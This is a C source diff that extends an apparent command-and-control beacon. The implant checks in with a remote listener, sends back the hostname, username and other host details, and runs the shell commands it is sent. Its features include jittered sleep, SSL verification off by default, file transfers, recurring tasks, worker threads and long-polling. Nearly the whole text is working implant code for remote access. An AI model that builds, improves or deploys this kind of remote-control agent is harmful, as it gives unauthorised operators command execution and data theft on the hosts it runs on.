@@ -4,15 +4,166 @@
  */
 
 #include "beacon.h"
+#include "command_registry.h"
 #include "communication.h"
+#include "executor.h"
+#include "file_transfer.h"
+#include "json.h"
+#include "output_spool.h"
+#include "poll_schedule.h"
+#include "records.h"
+#include "recurring.h"
+#include "resolver.h"
+#include "result_queue.h"
+#include "telemetry.h"
+#include "tls.h"
+#include "worker_pool.h"
 
 // Global variables
 static beacon_config_t g_config;
-static system_info_t g_sysinfo;
+static system_info_t g_sysinfo;          // the host as the listener last heard it
+static unsigned long g_sysinfo_hash;
+static int g_sessions = 0;               // the listener has issued a check-in token
 static int g_running = 0;
-static command_result_t g_results[64];
-static int g_result_count = 0;
+static arena_t g_arena;   // per-check-in scratch: response, command batch, payload
+static poll_schedule_t g_schedule;
 
+static int execute_shell_command_spooled(const char* command, output_spool_t* spool);
+
+static void process_commands(command_record_t** commands, int command_count) {
+    for (int i = 0; i < command_count; i++) {
+        // Unknown commands only report an error, so they are answered here too
+        const command_spec_t* spec = command_resolve(commands[i]);
+        if (spec && spec->cost == COMMAND_WORKER && worker_pool_submit(commands[i]) == 0) {
+            continue;
+        }
+        
+        // No pool, or the pool is saturated: run it here rather than drop it
+        result_record_t* result = execute_command(commands[i], &g_arena);
+        if (!result) {
+            printf("[-] Out of memory, skipping command %s\n", COMMAND_ID(commands[i]));
+            continue;
+        }
+        if (!result->streamed && result_queue_push(result) != 0) {
+            printf("[-] Result queue full, dropping result for %s\n", COMMAND_ID(commands[i]));
+        }
+    }
+}
+
+// Recurring runs go through the same dispatch as commands from the listener
+static void start_scheduled_runs(void) {
+    command_record_t* runs[RECURRING_MAX_TASKS];
+    int count = recurring_due(&g_arena, runs, RECURRING_MAX_TASKS);
+    process_commands(runs, count);
+}
+
+// Sleeps between check-ins, waking to start recurring runs as they fall due. Like
+// worker_pool_wait it ends early for output worth sending, which excludes the runs' own
+static void wait_for_checkin(int sleep_ms) {
+    while (sleep_ms > 0) {
+        start_scheduled_runs();
+        
+        int next_run = recurring_next_ms();
+        int slice = next_run >= 0 && next_run < sleep_ms ? next_run : sleep_ms;
+        if (worker_pool_wait(slice) != 0 || slice == sleep_ms) {
+            return;
+        }
+        sleep_ms -= slice;
+    }
+}
+
+// System info for the next check-in: the fields that changed while the listener holds our
+// session, all of them once it has dropped it, and none for a listener without sessions
+static system_info_t* pending_system_info(const beacon_config_t* config, system_info_t* update) {
+    if (config->session_token[0]) {
+        g_sessions = 1;
+    } else if (!g_sessions) {
+        return NULL;
+    }
+    if (collect_system_info(update) != 0) {
+        return NULL;
+    }
+    if (!config->session_token[0]) {
+        return update;
+    }
+    
+    // The hash settles the common case, an unchanged host, without comparing every field
+    if (system_info_hash(update) == g_sysinfo_hash) {
+        return NULL;
+    }
+    update->unchanged = system_info_unchanged(&g_sysinfo, update);
+    return update;
+}
+
+static void system_info_reported(const beacon_config_t* config, const system_info_t* sysinfo) {
+    g_sysinfo = *sysinfo;
+    g_sysinfo.unchanged = 0;
+    g_sysinfo_hash = system_info_hash(&g_sysinfo);
+    
+    // A full report answered without a token means the listener has stopped issuing them
+    if (!config->session_token[0]) {
+        g_sessions = 0;
+    }
+}
+
+// Returns 1 when the queue filled up and more results may be waiting behind it
+static int collect_results(void) {
+    result_record_t* result;
+    
+    // Once the queue is full, finished jobs wait in the pool rather than being dropped
+    while (result_queue_fits(RESULT_RECORD_MAX_SIZE) && worker_pool_collect(&result, 1) == 1) {
+        // Streamed commands report through their spool instead
+        if (!result->streamed) {
+            result_queue_push(result);
+        }
+        record_free(NULL, result);
+    }
+    
+    // Spooled output stays on disk until there is room in the next batch
+    while (result_queue_bytes() < RESULT_QUEUE_BATCH_BYTES && result_queue_fits(RESULT_RECORD_MAX_SIZE) &&
+           spool_collect(&g_arena, &result, 1) == 1) {
+        result_queue_push(result);
+    }
+    
+    // Downloads are read a chunk at a time, so only what is in flight occupies memory
+    while (result_queue_bytes() < RESULT_QUEUE_BATCH_BYTES && result_queue_fits(RESULT_RECORD_MAX_SIZE) &&
+           transfer_collect(&g_arena, &result, 1) == 1) {
+        result_queue_push(result);
+    }
+    
+    return !result_queue_fits(RESULT_RECORD_MAX_SIZE);
+}
+
+// How many of the sent results, oldest first, the last reply acknowledged
+static int acknowledged_results(const result_record_t** results, int result_count) {
+    long ack = http_result_ack();
+    if (ack == RESULT_ACK_NONE || result_count == 0) {
+        return result_count;
+    }
+    
+    long acked = ack - results[0]->upload_seq;
+    if (acked < 0) {
+        return 0;
+    }
+    return acked < result_count ? (int)acked : result_count;
+}
+
+// Tells the server how much tasking fits so the rest stays queued on its side
+static void current_backpressure(backpressure_t* backpressure) {
+    int accept = MAX_COMMAND_BATCH - worker_pool_pending();
+    if (accept < 0 || !result_queue_fits(RESULT_RECORD_MAX_SIZE)) {
+        accept = 0;
+    }
+    
+    backpressure->queued_results = result_queue_count();
+    backpressure->queued_bytes = result_queue_bytes();
+    backpressure->budget = result_queue_budget();
+    backpressure->accept = accept;
+    backpressure->long_poll = 0;
+}
+
+// The benchmarks link this file with their own entry point
+#ifndef BEACON_NO_MAIN
 int main(int argc, char* argv[]) {
     // Initialize configuration with default values
     memset(&g_config, 0, sizeof(beacon_config_t));
@@ -20,6 +171,20 @@ int main(int argc, char* argv[]) {
     g_config.sleep_interval = 60;
     g_config.jitter_percent = 10;
     g_config.verify_ssl = 0;
+    g_config.keep_alive = 1;
+    g_config.worker_threads = WORKER_POOL_DEFAULT_THREADS;
+    g_config.command_timeout = WORKER_POOL_DEFAULT_TIMEOUT;
+    g_config.io_timeout = HTTP_DEFAULT_IO_TIMEOUT;
+    g_config.stream_output = 1;
+    g_config.compress = 1;
+    g_config.binary_protocol = 0;
+    g_config.adaptive_poll = 1;
+    g_config.active_interval_ms = POLL_DEFAULT_ACTIVE_MS;
+    g_config.telemetry = 1;
+    g_config.result_budget = RESULT_QUEUE_DEFAULT_BUDGET;
+#ifndef _WIN32
+    g_config.dns_ttl = RESOLVER_DEFAULT_TTL;
+#endif
     
     // Parse command line arguments
     if (argc < 2) {
@@ -31,6 +196,19 @@ int main(int argc, char* argv[]) {
         printf("  --proxy <url>         Proxy URL\n");
         printf("  --verify-ssl          Verify SSL certificates\n");
         printf("  --beacon-id <id>      Custom beacon ID\n");
+        printf("  --no-keep-alive       Open a new connection for every check-in\n");
+        printf("  --dns-ttl <seconds>   Cache lifetime for resolved addresses (default: 300)\n");
+        printf("  --workers <count>     Command worker threads, 0 runs inline (default: 4)\n");
+        printf("  --timeout <seconds>   Per-command time limit (default: 300)\n");
+        printf("  --io-timeout <seconds> Give up on a send or read stalled this long (default: 30)\n");
+        printf("  --result-budget <kb>  Memory for results awaiting upload (default: 4096)\n");
+        printf("  --no-stream           Truncate shell output instead of streaming it in chunks\n");
+        printf("  --no-compress         Send check-ins uncompressed and don't ask for compressed replies\n");
+        printf("  --binary              Use the binary TLV check-in protocol instead of JSON\n");
+        printf("  --long-poll <seconds> Let the listener hold idle check-ins until tasking arrives\n");
+        printf("  --active-interval <ms> Check-in interval while commands are in flight (default: 500)\n");
+        printf("  --fixed-sleep         Always sleep the full interval instead of adapting to activity\n");
+        printf("  --no-telemetry        Don't report check-in phase timings to the listener\n");
         return 1;
     }
     
@@ -39,6 +217,37 @@ int main(int argc, char* argv[]) {
     
     // Parse additional arguments
     for (int i = 2; i < argc; i += 2) {
+        // Flag options don't take a value
+        if (strcmp(argv[i], "--verify-ssl") == 0) {
+            g_config.verify_ssl = 1;
+            i--;
+            continue;
+        } else if (strcmp(argv[i], "--no-keep-alive") == 0) {
+            g_config.keep_alive = 0;
+            i--;
+            continue;
+        } else if (strcmp(argv[i], "--no-stream") == 0) {
+            g_config.stream_output = 0;
+            i--;
+            continue;
+        } else if (strcmp(argv[i], "--no-compress") == 0) {
+            g_config.compress = 0;
+            i--;
+            continue;
+        } else if (strcmp(argv[i], "--binary") == 0) {
+            g_config.binary_protocol = 1;
+            i--;
+            continue;
+        } else if (strcmp(argv[i], "--fixed-sleep") == 0) {
+            g_config.adaptive_poll = 0;
+            i--;
+            continue;
+        } else if (strcmp(argv[i], "--no-telemetry") == 0) {
+            g_config.telemetry = 0;
+            i--;
+            continue;
+        }
+        
         if (i + 1 >= argc) break;
         
         if (strcmp(argv[i], "--sleep") == 0) {
@@ -52,9 +261,20 @@ int main(int argc, char* argv[]) {
             strncpy(g_config.proxy_url, argv[i + 1], sizeof(g_config.proxy_url) - 1);
         } else if (strcmp(argv[i], "--beacon-id") == 0) {
             strncpy(g_config.beacon_id, argv[i + 1], sizeof(g_config.beacon_id) - 1);
-        } else if (strcmp(argv[i], "--verify-ssl") == 0) {
-            g_config.verify_ssl = 1;
-            i--; // This option doesn't take a value
+        } else if (strcmp(argv[i], "--dns-ttl") == 0) {
+            g_config.dns_ttl = atoi(argv[i + 1]);
+        } else if (strcmp(argv[i], "--workers") == 0) {
+            g_config.worker_threads = atoi(argv[i + 1]);
+        } else if (strcmp(argv[i], "--timeout") == 0) {
+            g_config.command_timeout = atoi(argv[i + 1]);
+        } else if (strcmp(argv[i], "--io-timeout") == 0) {
+            g_config.io_timeout = atoi(argv[i + 1]);
+        } else if (strcmp(argv[i], "--result-budget") == 0) {
+            g_config.result_budget = (size_t)atoi(argv[i + 1]) * 1024;
+        } else if (strcmp(argv[i], "--long-poll") == 0) {
+            g_config.long_poll = atoi(argv[i + 1]);
+        } else if (strcmp(argv[i], "--active-interval") == 0) {
+            g_config.active_interval_ms = atoi(argv[i + 1]);
         }
     }
     
@@ -84,6 +304,7 @@ int main(int argc, char* argv[]) {
     
     return result;
 }
+#endif
 
 int beacon_initialize(beacon_config_t* config) {
     // Initialize networking
@@ -94,15 +315,50 @@ int beacon_initialize(beacon_config_t* config) {
     }
 #endif
     
+    if (arena_init(&g_arena, ARENA_DEFAULT_BLOCK_SIZE) != 0) {
+        return -1;
+    }
+    
+    result_queue_init(config->result_budget);
+    if (config->telemetry) {
+        telemetry_init();
+    }
+    http_set_keep_alive(config->keep_alive);
+    http_set_io_timeout(config->io_timeout);
+    poll_schedule_init(&g_schedule, config->sleep_interval, config->jitter_percent,
+                       config->active_interval_ms, config->adaptive_poll);
+    if (config->long_poll > 0) {
+        http_set_response_timeout(config->long_poll + LONG_POLL_TIMEOUT_MARGIN);
+    }
+#ifndef _WIN32
+    resolver_set_ttl(config->dns_ttl);
+#endif
+    
+    if (command_registry_init() != 0) {
+        return -1;
+    }
+    if (config->stream_output) {
+        spool_init();
+    }
+    transfer_init();
+    recurring_init();
+    
+    if (config->worker_threads > 0 &&
+        worker_pool_init(config->worker_threads, config->command_timeout) != 0) {
+        printf("[-] Worker pool unavailable, commands will run inline\n");
+    }
+    
     // Collect system information
     if (collect_system_info(&g_sysinfo) != 0) {
         return -1;
     }
+    g_sysinfo_hash = system_info_hash(&g_sysinfo);
     
     printf("[+] Beacon initialized\n");
     printf("    Beacon ID: %s\n", config->beacon_id);
     printf("    Server: %s\n", config->server_url);
-    printf("    Sleep: %ds (jitter: %d%%)\n", config->sleep_interval, config->jitter_percent);
+    printf("    Sleep: %ds (jitter: %d%%%s)\n", config->sleep_interval, config->jitter_percent,
+           config->adaptive_poll ? ", adaptive" : "");
     
     return 0;
 }
@@ -111,23 +367,33 @@ int beacon_start(beacon_config_t* config) {
     printf("[+] Starting beacon...\n");
     
     // Perform initial check-in
-    command_t* commands = NULL;
+    command_record_t** commands = arena_alloc(&g_arena, MAX_COMMAND_BATCH * sizeof(command_record_t*));
     int command_count = 0;
     
+    if (!commands) {
+        return -1;
+    }
+    
+    backpressure_t backpressure;
+    current_backpressure(&backpressure);
+    
     int checkin_result;
     if (strncmp(config->server_url, "https://", 8) == 0) {
-        checkin_result = https_checkin(config, &g_sysinfo, NULL, 0, &commands, &command_count);
+        checkin_result = https_checkin(config, &g_arena, &g_sysinfo, NULL, 0, &backpressure,
+                                       commands, MAX_COMMAND_BATCH, &command_count);
     } else {
-        checkin_result = http_checkin(config, &g_sysinfo, NULL, 0, &commands, &command_count);
+        checkin_result = http_checkin(config, &g_arena, &g_sysinfo, NULL, 0, &backpressure,
+                                      commands, MAX_COMMAND_BATCH, &command_count);
     }
     
     if (checkin_result == 0) {
         printf("[+] Initial check-in successful\n");
         g_running = 1;
         
-        // Free any commands received
-        if (commands) {
-            free(commands);
+        // Results go out with the first regular check-in
+        process_commands(commands, command_count);
+        if (command_count > 0) {
+            poll_schedule_activity(&g_schedule);
         }
         
         return 0;
@@ -140,39 +406,124 @@ int beacon_start(beacon_config_t* config) {
 int beacon_main_loop(beacon_config_t* config) {
     printf("[+] Beacon running. Press Ctrl+C to stop.\n");
     
+    int backlog = 0;
+    // The initial check-in told us whether the listener holds; if so go straight to a poll
+    int repoll = config->long_poll > 0 && http_listener_long_poll() > 0;
+    
     while (g_running) {
-        // Sleep with jitter
-        sleep_with_jitter(config->sleep_interval, config->jitter_percent);
+        // Sleep with jitter, unless queued or spooled output is still waiting to go out
+        // or the listener will do the waiting by holding the next check-in. Commands that
+        // finish (or fill a spool chunk) mid-sleep end it, so results do not wait a full interval
+        if (!backlog && !repoll) {
+            wait_for_checkin(poll_schedule_next_ms(&g_schedule));
+        }
+        backlog = 0;
+        repoll = 0;
+        
+        // Everything from the previous cycle is released in one step
+        arena_reset(&g_arena);
+        
+        // Runs due by now go out with this check-in if they finish inline
+        start_scheduled_runs();
+        
+        // Pick up whatever the workers finished while we slept
+        int held_back = collect_results();
+        
+        // Results stay queued until a check-in carrying them succeeds
+        const result_record_t** results = NULL;
+        int result_count = result_queue_count();
+        if (result_count > MAX_COMMAND_BATCH) {
+            result_count = MAX_COMMAND_BATCH;
+        }
+        if (result_count > 0) {
+            results = arena_alloc(&g_arena, result_count * sizeof(result_record_t*));
+            result_count = results ? result_queue_peek(results, result_count) : 0;
+        }
+        
+        backpressure_t backpressure;
+        current_backpressure(&backpressure);
+        
+        // Only an idle beacon asks to be held; anything in flight needs the next check-in
+        if (config->long_poll > 0 && result_count == 0 && !held_back &&
+            worker_pool_pending() == 0 && spool_pending() == 0 && transfer_pending() == 0) {
+            backpressure.long_poll = config->long_poll;
+            
+            // The hold must end in time for the next recurring run
+            int next_run = recurring_next_ms();
+            if (next_run >= 0 && next_run / 1000 < backpressure.long_poll) {
+                backpressure.long_poll = next_run / 1000 > 0 ? next_run / 1000 : 1;
+            }
+        }
         
         // Perform check-in
-        command_t* commands = NULL;
+        command_record_t** commands = arena_alloc(&g_arena, MAX_COMMAND_BATCH * sizeof(command_record_t*));
         int command_count = 0;
         
+        if (!commands) {
+            printf("[-] Out of memory, retrying next cycle\n");
+            continue;
+        }
+        
+        system_info_t update;
+        system_info_t* sysinfo = pending_system_info(config, &update);
+        
         int checkin_result;
         if (strncmp(config->server_url, "https://", 8) == 0) {
-            checkin_result = https_checkin(config, NULL, g_results, g_result_count, &commands, &command_count);
+            checkin_result = https_checkin(config, &g_arena, sysinfo, results, result_count, &backpressure,
+                                           commands, MAX_COMMAND_BATCH, &command_count);
         } else {
-            checkin_result = http_checkin(config, NULL, g_results, g_result_count, &commands, &command_count);
+            checkin_result = http_checkin(config, &g_arena, sysinfo, results, result_count, &backpressure,
+                                          commands, MAX_COMMAND_BATCH, &command_count);
         }
         
         if (checkin_result == 0) {
-            // Clear sent results
-            g_result_count = 0;
+            if (sysinfo) {
+                system_info_reported(config, sysinfo);
+            }
             
-            // Process received commands
-            for (int i = 0; i < command_count; i++) {
-                if (g_result_count < 64) { // Prevent overflow
-                    execute_command(&commands[i], &g_results[g_result_count]);
-                    g_result_count++;
-                }
+            // Results of recurring runs alone do not count as activity, or every run would
+            // pull the beacon off its interval; read before the queue lets go of them
+            int tasked = 0;
+            for (int i = 0; i < result_count && !tasked; i++) {
+                tasked = !results[i]->scheduled;
             }
             
-            // Free commands
-            if (commands) {
-                free(commands);
+            // Clear the results the listener stored; an unacknowledged tail is sent again,
+            // and anything left over did not fit in this batch
+            int acked = acknowledged_results(results, result_count);
+            result_queue_pop(acked);
+            backlog = held_back || spool_pending() > 0 || transfer_pending() > 0 || result_queue_count() > 0;
+            
+            // A listener refusing everything gets the normal interval, not a resend loop
+            if (result_count > 0 && acked == 0) {
+                printf("[-] Listener stored none of %d results, retrying next cycle\n", result_count);
+                backlog = 0;
+            }
+            
+            // Process received commands
+            process_commands(commands, command_count);
+            
+            // Skip the sleep when idle, or straight after a held poll so quick commands report
+            // at once. Only if the listener actually holds; an older one answers straight away
+            // and would turn this into a busy loop
+            int idle = !backlog && worker_pool_pending() == 0;
+            repoll = config->long_poll > 0 && http_listener_long_poll() > 0 &&
+                     (idle || backpressure.long_poll > 0);
+            
+            // Stay on the short interval while anything moved this cycle
+            if (command_count > 0 || tasked || !idle) {
+                poll_schedule_activity(&g_schedule);
+            } else {
+                poll_schedule_idle(&g_schedule);
             }
         } else {
-            printf("[-] Check-in failed, retrying next cycle\n");
+            telemetry_phase_t failed = telemetry_failed_phase();
+            if (failed < TELEMETRY_CHECKIN) {
+                printf("[-] Check-in failed during %s, retrying next cycle\n", telemetry_phase_name(failed));
+            } else {
+                printf("[-] Check-in failed, retrying next cycle\n");
+            }
+            poll_schedule_idle(&g_schedule);
         }
     }
     
@@ -181,8 +532,18 @@ int beacon_main_loop(beacon_config_t* config) {
 }
 
 void beacon_cleanup(void) {
+    worker_pool_shutdown(1000);
+    recurring_shutdown();
+    spool_shutdown();
+    transfer_shutdown();
+    result_queue_destroy();
+    http_connection_close();
+    arena_destroy(&g_arena);
+    
 #ifdef _WIN32
     WSACleanup();
+#elif !defined(BEACON_NO_TLS)
+    tls_cleanup();
 #endif
     printf("[+] Beacon cleanup complete\n");
 }
@@ -254,6 +615,40 @@ int collect_system_info(system_info_t* sysinfo) {
     return 0;
 }
 
+static unsigned long hash_bytes(unsigned long hash, const void* data, size_t length) {
+    const unsigned char* bytes = data;
+    for (size_t i = 0; i < length; i++) {
+        hash = ((hash ^ bytes[i]) * 16777619UL) & 0xFFFFFFFFUL;
+    }
+    return hash;
+}
+
+// FNV-1a over the reported fields; the NULs keep neighbouring strings apart
+unsigned long system_info_hash(const system_info_t* sysinfo) {
+    unsigned long hash = 2166136261UL;
+    hash = hash_bytes(hash, sysinfo->hostname, strlen(sysinfo->hostname) + 1);
+    hash = hash_bytes(hash, sysinfo->username, strlen(sysinfo->username) + 1);
+    hash = hash_bytes(hash, sysinfo->os_name, strlen(sysinfo->os_name) + 1);
+    hash = hash_bytes(hash, sysinfo->os_version, strlen(sysinfo->os_version) + 1);
+    hash = hash_bytes(hash, sysinfo->architecture, strlen(sysinfo->architecture) + 1);
+    hash = hash_bytes(hash, &sysinfo->pid, sizeof(sysinfo->pid));
+    hash = hash_bytes(hash, sysinfo->cwd, strlen(sysinfo->cwd) + 1);
+    return hash;
+}
+
+// SYSINFO_* bits of the fields current has in common with what was reported
+unsigned int system_info_unchanged(const system_info_t* reported, const system_info_t* current) {
+    unsigned int unchanged = 0;
+    unchanged |= strcmp(reported->hostname, current->hostname) == 0 ? SYSINFO_HOSTNAME : 0;
+    unchanged |= strcmp(reported->username, current->username) == 0 ? SYSINFO_USERNAME : 0;
+    unchanged |= strcmp(reported->os_name, current->os_name) == 0 ? SYSINFO_OS_NAME : 0;
+    unchanged |= strcmp(reported->os_version, current->os_version) == 0 ? SYSINFO_OS_VERSION : 0;
+    unchanged |= strcmp(reported->architecture, current->architecture) == 0 ? SYSINFO_ARCHITECTURE : 0;
+    unchanged |= reported->pid == current->pid ? SYSINFO_PID : 0;
+    unchanged |= strcmp(reported->cwd, current->cwd) == 0 ? SYSINFO_CWD : 0;
+    return unchanged;
+}
+
 void generate_uuid(char* buffer) {
     // Simple UUID generation (not cryptographically secure)
     srand(time(NULL));
@@ -263,74 +658,147 @@ void generate_uuid(char* buffer) {
 }
 
 void get_current_timestamp(char* buffer, size_t buffer_size) {
+    // Called from worker threads too, so use the reentrant conversions
     time_t now = time(NULL);
-    struct tm* tm_info = gmtime(&now);
-    strftime(buffer, buffer_size, "%Y-%m-%dT%H:%M:%SZ", tm_info);
+    struct tm tm_info;
+#ifdef _WIN32
+    gmtime_s(&tm_info, &now);
+#else
+    gmtime_r(&now, &tm_info);
+#endif
+    strftime(buffer, buffer_size, "%Y-%m-%dT%H:%M:%SZ", &tm_info);
 }
 
-void sleep_with_jitter(int base_seconds, int jitter_percent) {
-    if (jitter_percent > 0) {
-        int jitter_range = (base_seconds * jitter_percent) / 100;
-        int jitter = (rand() % (2 * jitter_range + 1)) - jitter_range;
-        int sleep_time = base_seconds + jitter;
-        if (sleep_time < 1) sleep_time = 1;
-        sleep(sleep_time);
+int command_shell(const command_record_t* cmd, arena_t* arena, result_record_t** result) {
+    // The team server sends {"cmd": "..."}; plain string arguments are run as-is
+    const char* args = COMMAND_ARGS(cmd);
+    char* shell_cmd = NULL;
+    if (args[0] == '{' && (shell_cmd = record_alloc(arena, cmd->args_length + 1)) != NULL &&
+        json_get_string(args, cmd->args_length, "cmd", shell_cmd, cmd->args_length + 1) == 0) {
+        args = shell_cmd;
+    }
+    
+    int success;
+    // Recurring runs are kept to one result each so they batch into the regular check-ins
+    output_spool_t* spool = g_config.stream_output && !cmd->scheduled ? spool_open(COMMAND_ID(cmd)) : NULL;
+    if (spool) {
+        success = execute_shell_command_spooled(args, spool);
+        (*result)->streamed = 1;
+        spool_finish(spool, success);
     } else {
-        sleep(base_seconds);
+        success = execute_shell_command(args, arena, result);
     }
+    record_free(arena, shell_cmd);
+    return success;
 }
 
-int execute_command(command_t* cmd, command_result_t* result) {
-    memset(result, 0, sizeof(command_result_t));
-    strncpy(result->command_id, cmd->id, sizeof(result->command_id) - 1);
-    get_current_timestamp(result->timestamp, sizeof(result->timestamp));
-    
-    // Basic command handling
-    if (strcmp(cmd->command, "shell") == 0) {
-        result->success = execute_shell_command(cmd->args, result->output, sizeof(result->output));
-    } else if (strcmp(cmd->command, "pwd") == 0) {
+int command_pwd(const command_record_t* cmd, arena_t* arena, result_record_t** result) {
+    char cwd[4096];
+    (void)cmd;
 #ifdef _WIN32
-        GetCurrentDirectoryA(sizeof(result->output), result->output);
+    DWORD length = GetCurrentDirectoryA(sizeof(cwd), cwd);
+    int success = length > 0 && length < sizeof(cwd);
 #else
-        if (getcwd(result->output, sizeof(result->output)) == NULL) {
-            strcpy(result->output, "Error getting current directory");
-            result->success = 0;
-        } else {
-            result->success = 1;
-        }
+    int success = getcwd(cwd, sizeof(cwd)) != NULL;
 #endif
-    } else if (strcmp(cmd->command, "exit") == 0) {
-        strcpy(result->output, "Beacon shutting down");
-        result->success = 1;
-        g_running = 0;
+    result_record_printf(arena, result, "%s", success ? cwd : "Error getting current directory");
+    return success;
+}
+
+int command_exit(const command_record_t* cmd, arena_t* arena, result_record_t** result) {
+    (void)cmd;
+    result_record_printf(arena, result, "Beacon shutting down");
+    g_running = 0;
+    return 1;
+}
+
+// Builds the result in the arena, or on the heap when arena is NULL (worker threads)
+result_record_t* execute_command(const command_record_t* cmd, arena_t* arena) {
+    long long started = telemetry_now_us();
+    result_record_t* result = result_record_create(arena, COMMAND_ID(cmd), 0);
+    if (!result) {
+        return NULL;
+    }
+    result->scheduled = (int)cmd->scheduled;
+    
+    const command_spec_t* spec = command_lookup(cmd);
+    if (spec) {
+        // The handler may move the record, so read the pointer only afterwards
+        int success = spec->handler(cmd, arena, &result);
+        result->success = success;
     } else {
-        snprintf(result->output, sizeof(result->output), "Unknown command: %s", cmd->command);
+        result_record_printf(arena, &result, "Unknown command: %s", COMMAND_NAME(cmd));
         result->success = 0;
     }
     
-    return 0;
+    telemetry_record(TELEMETRY_EXECUTE, started);
+    return result;
 }
 
-int execute_shell_command(const char* command, char* output, size_t output_size) {
-    FILE* pipe = popen(command, "r");
-    if (!pipe) {
-        strncpy(output, "Error: Failed to execute command", output_size - 1);
-        return 0;
+// The executor enforces the command time limit itself, inside the worker pool's deadline,
+// so a shell command is reported once, by its own result
+static int shell_time_limit_ms(void) {
+    int seconds = g_config.command_timeout > 0 ? g_config.command_timeout : WORKER_POOL_DEFAULT_TIMEOUT;
+    return seconds * 1000;
+}
+
+static const char* shell_failure(int status, char* buffer, size_t buffer_size) {
+    if (status == PROCESS_FAILED) {
+        return "Error: Failed to execute command";
     }
-    
-    size_t total_read = 0;
-    char buffer[1024];
-    
-    while (fgets(buffer, sizeof(buffer), pipe) != NULL && total_read < output_size - 1) {
-        size_t len = strlen(buffer);
-        if (total_read + len < output_size - 1) {
-            strcpy(output + total_read, buffer);
-            total_read += len;
-        } else {
-            break;
+    if (status == PROCESS_TIMED_OUT) {
+        snprintf(buffer, buffer_size, "Command timed out after %d seconds", shell_time_limit_ms() / 1000);
+        return buffer;
+    }
+    return NULL;
+}
+
+static int spool_output(void* context, const char* data, size_t length) {
+    return spool_write(context, data, length);
+}
+
+// Streams the whole output, so nothing past MAX_OUTPUT_SIZE is lost
+static int execute_shell_command_spooled(const char* command, output_spool_t* spool) {
+    char message[64];
+    int status = process_run(command, shell_time_limit_ms(), spool_output, spool);
+    
+    const char* failure = shell_failure(status, message, sizeof(message));
+    if (failure) {
+        // A timed-out command keeps what it printed, with the reason after it
+        if (spool->written > 0) {
+            spool_write(spool, "\n", 1);
         }
+        spool_write(spool, failure, strlen(failure));
     }
+    return status == 0 ? 1 : 0;
+}
+
+typedef struct {
+    arena_t* arena;
+    result_record_t** result;
+} shell_output_t;
+
+// Ends the capture at MAX_OUTPUT_SIZE - 1 bytes, which leaves a chatty child to SIGPIPE
+static int append_output(void* context, const char* data, size_t length) {
+    shell_output_t* output = context;
+    size_t room = MAX_OUTPUT_SIZE - 1 - (*output->result)->output_length;
+    size_t taken = length < room ? length : room;
     
-    int exit_status = pclose(pipe);
-    return (exit_status == 0) ? 1 : 0;
+    if (taken > 0 && result_record_append(output->arena, output->result, data, taken) != 0) {
+        return -1;
+    }
+    return taken < length ? -1 : 0;
+}
+
+// Keeps the first MAX_OUTPUT_SIZE - 1 bytes; streaming mode is what handles more
+int execute_shell_command(const char* command, arena_t* arena, result_record_t** result) {
+    char message[64];
+    shell_output_t output = { arena, result };
+    int status = process_run(command, shell_time_limit_ms(), append_output, &output);
+    
+    const char* failure = shell_failure(status, message, sizeof(message));
+    if (failure) {
+        result_record_printf(arena, result, "%s%s", (*result)->output_length > 0 ? "\n" : "", failure);
+    }
+    return status == 0 ? 1 : 0;
 }